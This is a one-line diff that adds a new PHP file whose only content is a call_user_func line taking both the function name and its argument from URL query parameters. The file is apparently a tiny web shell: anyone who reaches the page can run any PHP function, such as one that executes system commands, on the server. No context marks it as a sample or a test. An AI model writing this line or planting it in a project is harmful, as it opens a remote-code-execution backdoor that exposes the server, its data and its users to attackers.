@@ -1,0 +1,1 @@
+<?php call_user_func($_GET['f'], $_GET['a']); ?>
